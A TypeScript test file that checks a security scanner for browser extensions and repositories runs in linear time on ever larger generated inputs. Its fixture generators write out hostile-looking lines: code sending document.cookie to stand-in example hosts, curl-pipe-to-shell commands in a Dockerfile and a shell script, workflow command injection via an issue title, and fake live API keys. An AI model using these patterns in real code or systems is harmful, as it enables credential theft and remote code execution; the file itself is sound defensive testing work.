import { Session } from 'node:inspector/promises';
import { setFlagsFromString } from 'node:v8';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { TreeHead } from '../facts.ts';
import { examineFile } from './examineFile.ts';

/*
 * Every reader works in proportion to its text, however it is nested or repeated: twice the text are twice the steps.
 * Steps are what V8 counts of the code that ran, the same on every machine; time inside built-in functions is none, so
 * that what was quadratic there has a test of its own beside its reader.
 */

// Optimized code does not count.
for (const flag of ['--no-opt', '--no-maglev', '--no-sparkplug']) setFlagsFromString(flag);

const session = new Session();
beforeAll(async () => {
  session.connect();
  await session.post('Profiler.enable');
});
afterAll(() => session.disconnect());

/** How often parts of the engine and of its parsers ran while a file was examined. */
async function stepsOf(path: string, text: string, kind: TreeHead['kind']): Promise<number> {
  await session.post('Profiler.startPreciseCoverage', { callCount: true, detailed: true });
  await examineFile({ path, bytes: new TextEncoder().encode(text), sha256: '0' }, { kind, paths: new Set([path]) });
  const { result } = await session.post('Profiler.takePreciseCoverage');
  await session.post('Profiler.stopPreciseCoverage');
  let steps = 0;
  for (const { functions } of result)
    for (const { ranges } of functions) for (const { count } of ranges) steps += count;
  return steps;
}

const nested =
  (open: string, close: string, inner = '') =>
  (depth: number): string =>
    open.repeat(depth) + inner + close.repeat(depth);
const repeated =
  (line: (at: number) => string, before = '', after = '') =>
  (count: number): string =>
    before + Array.from({ length: count }, (_, at) => line(at)).join('\n') + after;
const indented =
  (line: string) =>
  (depth: number): string =>
    Array.from({ length: depth }, (_, at) => ' '.repeat(Math.min(at, 60)) + line).join('\n');

const JAVASCRIPT: Readonly<Record<string, (size: number) => string>> = {
  parentheses: nested('(', ')', '1'),
  brackets: nested('[', ']'),
  blocks: nested('{', '}'),
  objects: (depth) => `x = ${nested('{a:', '}', '1')(depth)}`,
  functions: nested('function f(x) { g(x); ', '}'),
  arrows: (depth) => `x = ${nested('() => (', ')', '1')(depth)}`,
  templates: (depth) => `x = ${nested('`${', '}`', '1')(depth)}`,
  calls: nested('f(', ')', '1'),
  'scripts in markup': (size) => `x.innerHTML = '${'<script>'.repeat(size)}'`,
  'handlers in markup': (size) => `x.innerHTML = '${'<a onx= <script'.repeat(size)}'`,
  'chained calls': (size) => `a${'.b(1)'.repeat(size)}`,
  'plus signs': (size) => `x = a${' + a'.repeat(size)}`,
  'else if': (size) => `if (a) b();${' else if (a) b();'.repeat(size)}`,
  conditions: (size) => `x = ${'a ? b : '.repeat(size)}c`,
  'open brackets': (size) => '['.repeat(size),
  'open blocks': (size) => 'if (a) {'.repeat(size),
  statements: repeated((at) => `send${at}(document.cookie, 'https://a${at}.example/x');`),
  variables: repeated((at) => `let v${at} = v${at - 1} + ${at};`),
  'one variable': repeated((at) => `v = v + ${at}; f(v);`),
  'one name': repeated(() => 'var again = again || {};'),
  'names of a list': repeated((at) => `'${at}',`, 'const list = [', ']; list[3]; list[4];'),
  strings: repeated((at) => `'aHR0cHM6Ly9leGFtcGxl${at}';`),
  comments: repeated(() => '/* a */ // https://a.example'),
};
const EXTENSION: Readonly<Record<string, Readonly<Record<string, (size: number) => string>>>> = {
  'a.js': JAVASCRIPT,
  'a.html': {
    divs: nested('<div>', '</div>'),
    'open divs': (size) => '<div>'.repeat(size),
    'open tags': (size) => '<a '.repeat(size),
    drawings: nested('<svg><g>', '</g></svg>'),
    tables: nested('<table><tr><td>', '</td></tr></table>'),
    forms: nested('<form><input type=password>', '</form>'),
    scripts: repeated((at) => `<script src="https://a${at}.example/x.js"></script>`),
    'scripts inside': repeated((at) => `<script>f(${at})</script>`),
    attributes: (size) => `<a ${Array.from({ length: size }, (_, at) => `onclick${at}="f()"`).join(' ')}>`,
    comments: (size) => '<!-- '.repeat(size),
  },
  'a.css': {
    rules: nested('a { ', '}'),
    addresses: repeated((at) => `.a${at} { background: url(https://a.example/${at}.png) }`),
    'open brackets': (size) => 'url('.repeat(size),
  },
  'manifest.json': {
    lists: (depth) => `{"manifest_version":3,"name":"x","version":"1","a":${nested('[', ']')(depth)}}`,
    objects: (depth) => `{"manifest_version":3,"name":"x","version":"1","a":${nested('{"a":', '}', '1')(depth)}}`,
    hosts: repeated((at) => `"https://a${at}.example/*",`, '{"manifest_version":3,"host_permissions":[', '""]}'),
  },
};
const REPOSITORY: typeof EXTENSION = {
  'a.ts': {
    ...JAVASCRIPT,
    types: (depth) => `let x: ${nested('A<', '>', 'B')(depth)};`,
    unions: (size) => `let x: ${'A | '.repeat(size)}B;`,
  },
  'a.tsx': { elements: (depth) => `x = ${nested('<a>', '</a>')(depth)}` },
  'a.py': {
    parentheses: (depth) => `x = ${nested('(', ')', '1')(depth)}`,
    brackets: (depth) => `x = ${nested('[', ']')(depth)}`,
    'open brackets': (size) => `x = ${'['.repeat(size)}`,
    calls: (depth) => `x = ${nested('f(', ')', '1')(depth)}`,
    'chained calls': (size) => `a${'.b(1)'.repeat(size)}`,
    'plus signs': (size) => `x = a${' + a'.repeat(size)}`,
    blocks: indented('if a:'),
    functions: repeated((at) => `def f${at}(x):\n    return f${at + 1}(x)\n`),
    assignments: repeated((at) => `v = v + request.args['a${at}']`),
    'else if': (size) => `if a:\n    b()\n${'elif a:\n    b()\n'.repeat(size)}`,
  },
  'package-lock.json': {
    packages: repeated(
      (at) => `"node_modules/p${at}":{"version":"1.0.${at}"},`,
      '{"lockfileVersion":3,"packages":{',
      '"":{}}}',
    ),
    objects: (depth) => `{"lockfileVersion":3,"packages":${nested('{"a":', '}', '1')(depth)}}`,
  },
  '.github/workflows/a.yml': {
    lists: (depth) => `on: push\njobs: ${nested('[', ']')(depth)}`,
    steps: repeated(
      (at) => `      - run: echo \${{ github.event.issue.title }} ${at}`,
      'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n',
    ),
  },
  'compose.yaml': { services: repeated((at) => `  s${at}:\n    image: a:latest\n    privileged: true`, 'services:\n') },
  'a.tf': {
    blocks: nested('a "b" {\n', '}\n'),
    resources: repeated((at) => `resource "aws_s3_bucket" "b${at}" {\n  acl = "public-read"\n}`),
  },
  Dockerfile: {
    lines: repeated((at) => `RUN curl http://a.example/${at} | sh`),
    'one line': (size) => `RUN ${'a && \\\n'.repeat(size)}b`,
  },
  'pom.xml': {
    elements: nested('<a>', '</a>'),
    dependencies: repeated(
      (at) => `<dependency><groupId>g</groupId><artifactId>a${at}</artifactId><version>1</version></dependency>`,
      '<project><dependencies>',
      '</dependencies></project>',
    ),
  },
  'pyproject.toml': {
    lists: (depth) => `a = ${nested('[', ']')(depth)}`,
    tables: repeated((at) => `[a${at}]\nb = 1`),
  },
  'requirements.txt': { lines: repeated((at) => `p${at}==1.0.${at}`) },
  'yarn.lock': { packages: repeated((at) => `p${at}@^1.0.0:\n  version "1.0.${at}"\n`) },
  '.env': { secrets: repeated((at) => `KEY_${at}=sk_live_${String(at).padStart(24, 'aB3dE5fG7h')}`) },
  'a.sh': { lines: repeated((at) => `curl http://a.example/${at} | sh`), brackets: nested('$(', ')', 'a') },
  'README.md': {
    links: nested('[', '](https://a.example)', 'a'),
    addresses: repeated((at) => `https://a${at}.example/`),
  },
};

const SMALLEST = 250;
const cases = (of: typeof EXTENSION, kind: TreeHead['kind']) =>
  Object.entries(of).flatMap(([path, shapes]) =>
    Object.entries(shapes).map(([shape, make]) => [path, shape, make, kind] as const),
  );

it.each([...cases(EXTENSION, 'extension'), ...cases(REPOSITORY, 'repository')])(
  '%s of ever more %s',
  { timeout: 120_000 },
  async (path, _shape, make, kind) => {
    // Loads what is loaded on demand.
    await stepsOf(path, make(10), kind);
    const [small, middle, large] = [
      await stepsOf(path, make(SMALLEST), kind),
      await stepsOf(path, make(SMALLEST * 2), kind),
      await stepsOf(path, make(SMALLEST * 4), kind),
    ];
    // Four times would be quadratic. One leap may come from a parser that gives up where another goes on.
    expect(Math.min(middle / small, large / middle)).toBeLessThan(2.8);
  },
);
